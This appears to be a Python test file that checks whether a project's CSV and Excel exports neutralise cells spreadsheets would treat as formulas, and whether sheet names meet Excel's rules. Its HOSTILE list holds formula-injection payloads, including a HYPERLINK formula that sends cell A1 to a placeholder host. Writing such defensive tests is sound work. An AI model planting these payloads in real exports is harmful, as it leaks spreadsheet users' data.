"""Exports no spreadsheet evaluates: CSV cells neutralised as OWASP recommends, workbook cells as text."""

from __future__ import annotations

import csv
import io

import pytest
from niangjia_projections.entrypoints.people import DIRECTORY_COLUMNS, _workbook
from niangjia_projections.exports import FORMULA_STARTS, csv_cell
from niangjia_projections.models.audit import queries as audit
from niangjia_projections.workbook import put, sheet_name
from openpyxl import Workbook, load_workbook

HOSTILE = ['=HYPERLINK("http://example.invalid/?leak="&A1,"点我")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def test_a_csv_cell_that_would_be_a_formula_is_text() -> None:
    for value in HOSTILE:
        assert csv_cell(value) == "'" + value
    assert csv_cell("湖塘镇") == "湖塘镇" and csv_cell(42) == 42 and csv_cell(None) is None


def test_the_audit_csv_has_no_formula_in_any_cell() -> None:
    records = [
        {column: hostile for column in audit.OUT_COLUMNS} | {"position": n, "data": {"name": hostile}}
        for n, hostile in enumerate(HOSTILE, 1)
    ]
    text = b"".join(audit.as_csv(iter(records))).decode()
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == len(HOSTILE) + 1
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


def test_the_directory_workbook_holds_text_never_a_formula() -> None:
    rows = [{column: hostile for column in DIRECTORY_COLUMNS} for hostile in HOSTILE]
    book = load_workbook(io.BytesIO(_workbook(rows)))
    sheet = book.active
    assert sheet is not None
    values = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert len(values) == len(HOSTILE) * len(DIRECTORY_COLUMNS)
    assert all(cell.data_type == "s" for cell in values)
    assert {cell.value for cell in values} == {h.replace("\r", "\n") for h in HOSTILE}  # as written (XML keeps no CR)


def test_a_report_workbook_cell_that_starts_as_any_formula_would_is_marked_text() -> None:
    sheet = Workbook().active
    assert sheet is not None
    for row, start in enumerate(FORMULA_STARTS, 1):  # the same list as the CSV cells'
        cell = put(sheet, row, 1, f'{start}HYPERLINK("http://x")')
        assert (cell.data_type, cell.quotePrefix) == ("s", True), repr(start)
    assert put(sheet, 9, 1, "武进区").quotePrefix is False


@pytest.mark.parametrize(
    ("title", "sheet"),
    [
        ("四季关爱行动年度报表", "四季关爱行动年度报表"),
        ("Care campaigns: the year", "Care campaigns - the year"),
        ("Seasonal care campaigns: the year", "Seasonal care campaigns"),
        ("Executive members and their “one member, one deed” projects", "Executive members and their"),
        ("a/b?c*[d]", "a b c d"),
        ("x" * 40, "x" * 31),
    ],
)
def test_a_sheet_is_named_by_its_title_as_excel_allows(title: str, sheet: str) -> None:
    assert sheet_name(title) == sheet
